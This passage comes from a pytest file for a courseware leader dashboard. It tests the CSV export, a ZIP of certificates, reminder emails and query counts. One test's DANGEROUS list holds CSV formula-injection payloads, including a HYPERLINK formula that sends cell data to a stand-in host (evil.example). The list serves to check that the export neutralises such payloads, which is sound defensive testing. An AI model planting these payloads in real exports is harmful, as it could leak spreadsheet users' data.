    "Last activity",
    "Completed",
    "Certificate code",
    "Best score: Module 2",
    "Minutes: Welcome",
    "Minutes: Practice",
    "Discussion posts: Practice",
]


def test_the_csv_export(world, staff, leader_client, assigned):
    response = leader_client.get(dashboard_url(world.cohort.id, assigned.id) + ".csv")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment;") and disposition.endswith('.csv"')
    assert response.headers["Cache-Control"] == "private, no-store"
    header, *rows = read_csv(response.data)
    assert header == CSV_HEADER
    assert [r[0] for r in rows] == ["Cal Completed", "Ian Inprogress", "Nia Notstarted"]
    by_name = {r[0]: dict(zip(header, r, strict=True)) for r in rows}
    code = db.session.scalar(select(Certificate.code).where(Certificate.user_id == staff.cal.id))
    cal = by_name["Cal Completed"]
    assert cal["Email"] == "cal@district.org" and cal["Status"] == "Completed"
    assert (cal["Progress %"], cal["Hours earned"], cal["Certificate code"]) == ("100", "1", code)
    assert cal["Completed"] == utcnow().date().isoformat()
    assert cal["Best score: Module 2"] == "100"
    assert (cal["Minutes: Welcome"], cal["Minutes: Practice"]) == ("16", "32")  # the time each module requires
    ian = by_name["Ian Inprogress"]
    assert (ian["Status"], ian["Best score: Module 2"], ian["Certificate code"]) == ("In progress", "75", "")
    assert (ian["Staff role"], ian["School"]) == ("Counselor", "Washington Middle")
    assert (cal["Case studies done"], cal["Average self-score %"]) == ("0", "")  # none required: none done
    nia = by_name["Nia Notstarted"]
    assert (nia["Status"], nia["Progress %"], nia["Last activity"], nia["Best score: Module 2"]) == (
        "Not started",
        "0",
        "",
        "",
    )


def test_the_csv_export_follows_the_filters(world, staff, leader_client, assigned):
    response = leader_client.get(dashboard_url(world.cohort.id, assigned.id) + ".csv?role=Teacher&sort=name&order=desc")
    _, *rows = read_csv(response.data)
    assert [r[0] for r in rows] == ["Nia Notstarted", "Cal Completed"]
    (export_link,) = links(
        text_of(leader_client.get(dashboard_url(world.cohort.id, assigned.id) + "?role=Teacher")), 'a[href*=".csv"]'
    )
    assert "role=Teacher" in export_link


DANGEROUS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1", "-2", "@cmd", "\tTabbed name"]


def test_the_csv_export_never_holds_a_formula(world, leader_client, make_user):
    for n, name in enumerate(DANGEROUS):
        user = make_user(name=f"placeholder {n}", email=f"formula{n}@district.org")
        user.name = name  # set directly: names typed in the app lose a leading tab
        add_member(world.cohort, user, role="=1+2" if n == 0 else "Teacher")
    db.session.commit()
    services.assign(world.cohort, COURSE, utcnow().date() + timedelta(days=3), None)
    assignment = the_assignment(world.cohort)
    _, *rows = read_csv(leader_client.get(dashboard_url(world.cohort.id, assignment.id) + ".csv").data)
    assert len(rows) == len(DANGEROUS)
    names = sorted(r[0] for r in rows)
    assert names == sorted("'" + name for name in DANGEROUS)
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    roles = {r[0]: r[3] for r in rows}
    assert roles["'" + DANGEROUS[0]] == "'=1+2"


# --- the ZIP of certificates -----------------------------------------------------------------------


def test_the_zip_holds_one_pdf_per_completed_member(app, world, staff, leader_client, assigned, make_user, sign_in):
    zoe = make_user(name="Zoë Ünal", email="zoe@district.org")
    add_member(world.cohort, zoe, "Teacher", world.school)
    factories.completed(zoe, pdf=None)  # the ZIP holds the PDF as rendered

    response = leader_client.get(dashboard_url(world.cohort.id, assigned.id) + "/certificates.zip")
    assert response.status_code == 200
    assert response.mimetype == "application/zip"
    assert response.headers["Content-Disposition"].startswith("attachment;")
    archive = zipfile.ZipFile(io.BytesIO(response.get_data()))
    assert archive.testzip() is None
    names = sorted(archive.namelist())
    assert len(names) == 2 and all(n.endswith(".pdf") for n in names)
    texts = {}
    for name in names:
        data = archive.read(name)
        assert data.startswith(b"%PDF-")
        assert len(PdfReader(io.BytesIO(data)).pages) >= 1
        texts[name] = pdf_text(data)
    assert [n.split(" - ")[0] for n in names] == ["Cal Completed", "Zoë Ünal"]
    by_person = {n.split(" - ")[0]: t for n, t in texts.items()}
    assert "Cal Completed" in by_person["Cal Completed"]
    assert "Zoë Ünal" in by_person["Zoë Ünal"]
    assert "Example course" in by_person["Cal Completed"]


def test_the_zip_leaves_out_a_revoked_certificate(world, staff, leader_client, assigned):
    from courseware.certificates import services as certificates

    certificates.revoke(db.session.scalar(select(Certificate).where(Certificate.user_id == staff.cal.id)), "Error")
    response = leader_client.get(dashboard_url(world.cohort.id, assigned.id) + "/certificates.zip")
    assert zipfile.ZipFile(io.BytesIO(response.get_data())).namelist() == []


def test_a_revoked_certificate_shows_as_revoked_on_the_dashboard_and_in_the_export(
    world, staff, leader_client, assigned
):
    from courseware.certificates import services as certificates

    certificates.revoke(db.session.scalar(select(Certificate).where(Certificate.user_id == staff.cal.id)), "Error")
    board = dashboard_url(world.cohort.id, assigned.id)
    html = leader_client.get(board).get_data(as_text=True)
    assert "Certificate revoked" in html and "Revoked" in html
    header, *rows = list(
        csv.reader(io.StringIO(leader_client.get(board + ".csv").get_data(as_text=True).lstrip("\ufeff")))
    )
    cal = next(dict(zip(header, row, strict=True)) for row in rows if row[0] == staff.cal.name)
    assert cal["Status"] == "Certificate revoked" and cal["Hours earned"] == "0"


def test_a_leader_sees_a_members_hours_ledger_and_nothing_they_wrote(
    app, world, staff, leader_client, assigned, make_user, sign_in
):
    board = dashboard_url(world.cohort.id, assigned.id)
    rows = {r["name"]: r for r in member_rows(leader_client.get(board).get_data(as_text=True))}
    (link,) = rows["Cal Completed"]["ledger_links"]
    html = leader_client.get(link).get_data(as_text=True)
    assert "Hours ledger for Example course" in html and "Cal Completed" in html
    welcome = table_rows(html, "Hours ledger of Example course, module by module")[0]
    assert welcome[0] == "Welcome" and welcome[6] == "16 min" and welcome[7] == "0.33 h Done"
    outsider = app.test_client()
    sign_in(outsider, make_user(name="Olive Outsider"))
    assert outsider.get(link).status_code == 403  # not a leader
    member_id = link.rsplit("/", 1)[1]
    assert leader_client.get(f"{board}/members/{int(member_id) + 999}").status_code == 404


def test_the_zip_of_a_cohort_where_nobody_has_finished_is_empty_but_valid(world, leader_client):
    services.assign(world.cohort, COURSE, utcnow().date() + timedelta(days=3), None)
    assignment = the_assignment(world.cohort)
    response = leader_client.get(dashboard_url(world.cohort.id, assignment.id) + "/certificates.zip")
    assert response.status_code == 200
    assert zipfile.ZipFile(io.BytesIO(response.get_data())).namelist() == []


# --- reminders -------------------------------------------------------------------------------------


@pytest.fixture
def smtp_server():
    handler = FlakyHandler()
    controller = Controller(handler, hostname="127.0.0.1", port=_free_port(), server_hostname="localhost")
    controller.start()
    handler.port = controller.port
    try:
        yield handler
    finally:
        controller.stop()


def test_reminders_go_to_active_members_not_done_exactly_once(make_app, smtp_server, make_user, sign_in):
    app = make_app(MAIL_SERVER="127.0.0.1", MAIL_PORT=smtp_server.port, MAIL_USE_TLS=False)
    with app.app_context():
        world = build_world(make_user)
        people = {
            name: make_user(name=name, email=f"{name.split()[0].lower()}@district.org")
            for name in ("Nia Notstarted", "Ian Inprogress", "Cal Completed", "Dee Deactivated", "Owen Overdue")
        }
        for user in people.values():
            add_member(world.cohort, user, "Teacher")
        db.session.execute(
            update(CohortMember).where(CohortMember.user_id == people["Dee Deactivated"].id).values(active=False)
        )
        db.session.commit()
        factories.enrolment(people["Ian Inprogress"], pages=["welcome/getting-started"])
        factories.completed(people["Cal Completed"])
        assert jobs.work() == jobs.WorkReport(done=1)  # Cal's certificate PDF, before any mail is queued
        services.assign(world.cohort, COURSE, utcnow().date() + timedelta(days=7), None)
        assignment = the_assignment(world.cohort)

        leader = signed_in(app, sign_in, world.leader)
        url = dashboard_url(world.cohort.id, assignment.id)
        assert "Remind those not done (3)" in text_of(leader.get(url))
        confirm = text_of(leader.get(url + "/remind"))
        assert "Send 3 reminder emails?" in confirm
        assert queued_emails("reminder") == []  # the confirmation page sends nothing
        response = leader.submit(url + "/remind", {"confirm": "yes"}, page=url + "/remind")
        assert response.status_code == 302 and response.location == url
        assert "3 reminders are on the way to everyone not done." in text_of(leader.get(url))
        assert smtp_server.refused == 0 and smtp_server.received == []  # queued, not sent

        messages = queued_emails("reminder")
        assert sorted(m.to_address for m in messages) == ["ian@district.org", "nia@district.org", "owen@district.org"]
        for message in messages:
            assert message.status == "queued" and message.attempts == 0
            assert "Example course" in message.subject
            assert "http://localhost/courses/example-course" in message.body
            assert "Lee Leader" in message.body

        runner = app.test_cli_runner()
        first = runner.invoke(args=["jobs", "work"])
        assert first.exit_code == 0, first.output
        assert first.output == "done 0, failed 3, dead 0\n"
        assert smtp_server.refused == 3 and smtp_server.received == []

        smtp_server.accepting = True
        assert runner.invoke(args=["jobs", "work"]).output == "done 0, failed 0, dead 0\n"  # retries not due yet
        assert jobs.work(now=utcnow() + timedelta(minutes=2)) == jobs.WorkReport(done=3)
        assert jobs.work(now=utcnow() + timedelta(hours=1)) == jobs.WorkReport()

        assert smtp_server.recipients() == Counter(
            {"ian@district.org": 1, "nia@district.org": 1, "owen@district.org": 1}
        )
        for recipient, content in smtp_server.received:
            message = message_from_bytes(content)
            assert message["To"] == recipient
            assert message["Subject"].startswith("Reminder:")
        assert all(m.status == "done" for m in queued_emails("reminder"))


def test_no_reminder_is_needed_when_everyone_is_done(app, world, leader_client, make_user, sign_in):
    cal = make_user(name="Cal Completed", email="cal@district.org")
    add_member(world.cohort, cal)
    factories.completed(cal)
    services.assign(world.cohort, COURSE, utcnow().date() + timedelta(days=7), None)
    url = dashboard_url(world.cohort.id, the_assignment(world.cohort).id)
    assert "No reminder to send" in text_of(leader_client.get(url + "/remind"))
    response = leader_client.submit(url + "/remind", {"confirm": "yes"}, page=url + "/remind")
    assert response.status_code == 302
    assert "No reminder was sent" in text_of(leader_client.get(url))
    assert queued_emails("reminder") == []


def _remind_setup(world, make_user, count: int = 3) -> str:
    for n in range(count):
        add_member(world.cohort, make_user(name=f"Member {n}", email=f"member{n}@district.org"), "Teacher")
    services.assign(world.cohort, COURSE, utcnow().date() + timedelta(days=7), None)
    return dashboard_url(world.cohort.id, the_assignment(world.cohort).id)


def test_a_reminder_is_sent_only_once_the_leader_confirms_it(app, world, leader_client, make_user):
    url = _remind_setup(world, make_user)
    response = leader_client.submit(url + "/remind", page=url)  # an old form, or a replayed post
    assert response.status_code == 302 and response.location == url + "/remind"
    assert queued_emails("reminder") == []
    assert "Send 3 reminder emails?" in text_of(leader_client.get(response.location))


def test_pressing_remind_twenty_times_sends_one_reminder_per_member_per_day(app, world, leader_client, make_user):
    url = _remind_setup(world, make_user)
    for _ in range(20):
        leader_client.submit(url + "/remind", {"confirm": "yes"}, page=url + "/remind")
    assert len(queued_emails("reminder")) == 3
    assert jobs.work() == jobs.WorkReport(done=3)
    confirm = text_of(leader_client.get(url + "/remind"))
    assert "No reminder to send" in confirm and "3 members had a reminder in the last 24 hours" in confirm
    leader_client.submit(url + "/remind", {"confirm": "yes"}, page=url + "/remind")
    assert len(queued_emails("reminder")) == 3
    # A day later, those still not done may be reminded again.
    db.session.execute(update(Job).values(created_at=utcnow() - timedelta(hours=25)))
    db.session.commit()
    assert "Send 3 reminder emails?" in text_of(leader_client.get(url + "/remind"))
    leader_client.submit(url + "/remind", {"confirm": "yes"}, page=url + "/remind")
    assert len(queued_emails("reminder")) == 6


@pytest.mark.postgres_only
def test_twenty_simultaneous_reminders_queue_one_per_member(app, world, leader_client, make_user):
    url = _remind_setup(world, make_user, count=5)
    token = leader_client.csrf_token(url + "/remind")
    cookie = leader_client.get_cookie("session").value
    barrier = threading.Barrier(20)
    statuses: list[int] = []

    def press() -> None:
        with app.app_context():
            client = app.test_client()
            client.set_cookie("session", cookie)
            barrier.wait()
            statuses.append(client.post(url + "/remind", data={"confirm": "yes", "csrf_token": token}).status_code)
            db.session.remove()

    threads = [threading.Thread(target=press) for _ in range(20)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert statuses == [302] * 20
    assert Counter(m.to_address for m in queued_emails("reminder")) == Counter(
        {f"member{n}@district.org": 1 for n in range(5)}
    )


def test_a_member_who_never_chose_a_password_is_reminded_with_a_link_to_choose_one(
    app, world, leader_client, make_user
):
    url = _remind_setup(world, make_user, count=1)
    invited = make_user(name="Ivy Invited", email="ivy@district.org")
    invited.password_hash = services.UNCHOSEN_HASH  # as a roster upload creates it
    db.session.commit()
    add_member(world.cohort, invited, "Teacher")
    confirm = text_of(leader_client.get(url + "/remind"))
    assert "Send 2 reminder emails?" in confirm and "1 of them never chose a password" in confirm
    leader_client.submit(url + "/remind", {"confirm": "yes"}, page=url + "/remind")
    by_address = {m.to_address: m for m in queued_emails("reminder")}
    assert "Pick up where you left off" in by_address["member0@district.org"].body
    body = by_address["ivy@district.org"].body
    assert "Pick up where you left off" not in body and "You have not chosen a password yet" in body
    link = re.search(r"http://localhost(/reset-password/[\w-]+)", body)
    assert link is not None
    visitor = app.test_client()
    page = visitor.get(link.group(1))
    assert page.status_code == 200
    response = visitor.submit(
        link.group(1), {"password": "a-new-password-for-ivy-7", "confirm": "a-new-password-for-ivy-7"}
    )
    assert response.status_code == 302


# --- the number of SQL queries does not grow with the cohort ------------------------------------


def seed_members(cohort: Cohort, school: Organisation, count: int, prefix: str) -> None:
    """``count`` members with progress, quiz attempts, shared entries, a practice log past its cap, a case study
    scored 5 of 6 and, for half, a certificate."""
    from flask import current_app

    roster = "name,email,staff role,school\n" + "".join(
        f"{prefix} Person {n:04d},{prefix.lower()}{n}@district.org,{('Teacher', 'Aide', 'Nurse')[n % 3]},"
        f"{school.name if n % 2 else ''}\n"
        for n in range(count)
    )
    with current_app.test_request_context():
        result = services.apply_roster(cohort, roster, deactivate_missing=False, invited_by=None)
    assert result.added == count
    users = dict(
        db.session.execute(
            select(User.email, User.id).join(CohortMember).where(CohortMember.cohort_id == cohort.id)
        ).all()
    )
    now = utcnow()
    user_ids = sorted(users.values())
    db.session.execute(
        insert(Enrolment),
        [{"user_id": u, "course_slug": COURSE, "cycle": 1, "enrolled_at": now, "last_activity_at": now,
          "completed_at": now if i % 2 else None, "pages_visited": 2, "seconds": 120} for i, u in enumerate(user_ids)],
    )  # fmt: skip
    enrolments = dict(
        db.session.execute(select(Enrolment.user_id, Enrolment.id).where(Enrolment.user_id.in_(user_ids))).all()
    )
    db.session.execute(
        insert(PageProgress),
        [{"enrolment_id": e, "page_key": key, "first_visited_at": now, "last_visited_at": now, "seconds": 60}
         for e in enrolments.values() for key in ("welcome/getting-started", "welcome/progress")],
    )  # fmt: skip
    version = db.session.scalar(select(QuizVersion.id).where(QuizVersion.quiz_id == "practice-check"))
    if version is None:
        version = db.session.execute(
            insert(QuizVersion).values(course_slug=COURSE, quiz_id="practice-check", version="seed", content={})
        ).inserted_primary_key[0]
    db.session.execute(
        insert(QuizAttempt),
        [{"user_id": u, "course_slug": COURSE, "quiz_id": "practice-check", "cycle": 1, "number": 1,
          "quiz_version_id": version, "answers": {}, "results": {}, "score": 50 + i % 50, "passed": False,
          "submitted_at": now} for i, u in enumerate(user_ids)],
    )  # fmt: skip
    db.session.execute(
        insert(WorksheetEntry),
        [{"user_id": u, "course_slug": COURSE, "worksheet_id": "my-plan", "title": "My plan", "shared": True,
          "created_at": now, "updated_at": now} for u in user_ids],
    )  # fmt: skip
    db.session.execute(
        insert(PracticeEntry),
        [{"user_id": u, "course_slug": COURSE, "cycle": 1, "practice_id": "greet-at-the-door", "done_on": now.date(),
          "minutes": 15, "tried": "Greeted at the door", "noticed": "Calmer starts", "attested_at": now,
          "form_key": f"seed-{u:08d}-{n:08d}", "created_at": now} for u in user_ids for n in range(2)],
    )  # fmt: skip
    db.session.execute(
        insert(CaseStudyResponse),
        [{"user_id": u, "course_slug": COURSE, "cycle": 1, "case_study_id": "noisy-morning",
          "response": "Private words", "revision": 1,
          "scores": {"by-name": "met", "stays-calm": "met", "why": "partly"}, "scored_revision": 1,
          "created_at": now, "updated_at": now, "scored_at": now} for u in user_ids],
    )  # fmt: skip
    db.session.execute(
        insert(Certificate),
        [{"code": f"{prefix.upper()}{u:08d}".ljust(32, "X")[:32], "user_id": u, "course_slug": COURSE, "cycle": 1,
          "generation": 0, "learner_name": "Someone", "course_title": "Example course", "course_version": "1.0",
          "hours": 1.0, "credit_type": "contact hours", "ceu": 0.1,
          "provider_name": "Northfield Teacher Learning Center", "approval_number": "NTLC-0001",
          "provider_contact": "training@northfield.test", "design": "classic",
          "completed_at": now, "issued_at": now} for i, u in enumerate(user_ids) if i % 2],
    )  # fmt: skip
    db.session.commit()


class QueryCounter:
    def __init__(self) -> None:
        self.statements: list[str] = []

    def __call__(self, conn, cursor, statement, parameters, context, executemany) -> None:
        self.statements.append(statement)


def queries_for(client, url: str) -> tuple[int, object]:
    counter = QueryCounter()
    event.listen(db.engine, "before_cursor_execute", counter)
    try:
        response = client.get(url)
    finally:
        event.remove(db.engine, "before_cursor_execute", counter)
    assert response.status_code == 200
    return len(counter.statements), response


def test_the_dashboard_and_export_take_as_many_queries_for_500_members_as_for_10(app, world, leader_client):
    district = db.session.get(Organisation, world.district.id)
    school = db.session.get(Organisation, world.school.id)
    small = db.session.get(Cohort, world.cohort.id)
    big = services.create_cohort(district, "Everyone")
    services.grant_leader(db.session.get(User, world.leader.id), cohort=big)
    seed_members(small, school, 10, "Small")
    seed_members(big, school, 500, "Big")
    due = utcnow().date() + timedelta(days=10)
    small_id = services.assign(small, COURSE, due, None).id
    big_id = services.assign(big, COURSE, due, None).id
    small_url, big_url = dashboard_url(small.id, small_id), dashboard_url(big.id, big_id)

    for url in (small_url, big_url):  # warm up: compiled course, caches
        leader_client.get(url)
        leader_client.get(url + ".csv")

    small_count, small_page = queries_for(leader_client, small_url)
    big_count, big_page = queries_for(leader_client, big_url)
    assert len(member_rows(text_of(small_page))) == 10 and len(member_rows(text_of(big_page))) >= 10
    assert {r["practice"] for r in member_rows(text_of(big_page))} == {"20 min"}  # 30 logged, 20 count
    assert {r["case_studies"] for r in member_rows(text_of(big_page))} == {
        "1 of 1 case studies done · average self-score 83%"
    }
    assert "Private words" not in text_of(big_page)
    assert "500 active members" in text_of(big_page)
    assert small_count == big_count, (small_count, big_count)
    assert big_count <= 20
    last_count, last_page = queries_for(leader_client, big_url + "?page=1000&sort=status")
    assert member_rows(text_of(last_page)) and last_count == small_count

    small_count, small_csv = queries_for(leader_client, small_url + ".csv")
    big_count, big_csv = queries_for(leader_client, big_url + ".csv")
    assert len(read_csv(small_csv.data)) == 11 and len(read_csv(big_csv.data)) == 501
    header, *rows = read_csv(big_csv.data)
    assert {row[header.index("Practice minutes")] for row in rows} == {"20"}
    assert {(row[header.index("Case studies done")], row[header.index("Average self-score %")]) for row in rows} == {
        ("1", "83")
    }
    assert b"Private words" not in big_csv.data
    assert small_count == big_count, (small_count, big_count)
